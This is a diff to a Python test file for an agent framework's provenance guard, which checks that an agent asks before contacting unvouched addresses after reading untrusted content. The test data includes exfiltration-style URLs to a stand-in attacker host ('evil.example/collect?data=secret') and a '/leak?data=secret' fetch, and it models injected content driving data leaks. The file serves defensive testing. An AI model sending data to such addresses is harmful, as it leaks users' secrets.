@@ -22,6 +22,7 @@ from openmanus_graph.provenance import (
 from openmanus_graph.state.manus import PlannedCall
 from openmanus_graph.tools.ask_human import ask_human
 from openmanus_graph.tools.bash import bash
+from openmanus_graph.tools.browser_use import browser_use
 from openmanus_graph.tools.crawl4ai import crawl4ai
 from openmanus_graph.tools.declaration import traits_of
 from openmanus_graph.tools.fetch_page import fetch_page
@@ -80,6 +81,21 @@ def test_after_something_was_read_an_unknown_address_is_asked_about(
     reading: list[AnyMessage],
 ) -> None:
     assert asked(reading)
+
+
+def test_a_call_that_came_to_nothing_has_read_nothing() -> None:
+    refused = did("fetch_page", f"{EVIL} was not reached", "error", url=EVIL)
+    refused[1] = ToolMessage(refused[1].text, tool_call_id="c1", artifact={"own_words": True})
+    assert not asked(refused)
+    assert asked(refused, READ)
+
+
+@pytest.mark.parametrize("url", ["evil.example/collect?data=secret", "//evil.example/?data=secret"])
+def test_an_address_that_the_browser_completes_is_looked_at(url: str) -> None:
+    history = [HumanMessage("Do it."), *READ, calls(("browser_use", {"url": url}))]
+    args = {"action": "go_to_url", "url": url}
+    call = PlannedCall(id="c1", name="browser_use", args=args, occurrence=0, problem=None)
+    assert unvouched_addresses(call, history, TRAITS | {"browser_use": traits_of(browser_use)})
 
 
 @pytest.mark.parametrize(
@@ -258,6 +274,36 @@ def fetching_graph() -> Any:
 
 def fetching(url: str, prefix: str = "c") -> AIMessage:
     return calls(("fetch_page", {"url": url}), prefix=prefix)
+
+
+async def test_our_own_words_are_neither_labelled_nor_counted_as_foreign(
+    site: PageServer, other: PageServer
+) -> None:
+    inward, away = "http://10.0.0.1/", site.url(f"/redirect?to={other.url('/circle')}")
+    refusals = [
+        calls(("fetch_page", {"url": inward}), ("crawl4ai", {"urls": [inward]}), prefix="a"),
+        calls(("browser_use", {"action": "click_element"}), prefix="b"),
+        calls(("browser_use", {"action": "go_to_url", "url": "not a url"}), prefix="d"),
+        calls(("browser_use", {"action": "go_to_url", "url": inward}), prefix="e"),
+        calls(("web_search", {"query": " "}), prefix="f"),
+    ]
+    ran = await run_graph(
+        build_manus_graph(tools=[fetch_page, crawl4ai, browser_use, web_search]),
+        *refusals,
+        fetching(other.url("/leak?data=secret"), "g"),  # nothing could leak: nothing was read
+        fetching(away, "h"),
+        "done",
+        task=f"Read {site.url('/start')}",
+        allow_hosts=(site.place, other.place),
+        policy="never",
+    )
+    *ours, page, circle = ran.results()
+    assert len(ours) == 6
+    assert not any("untrusted" in text for text in ours)
+    assert "thanks" in page
+    assert "untrusted" in page
+    assert "circle" in circle
+    assert "untrusted" in circle, "a server has chosen the place that is named"
 
 
 THREAD: RunnableConfig = {"configurable": {"thread_id": "t"}}
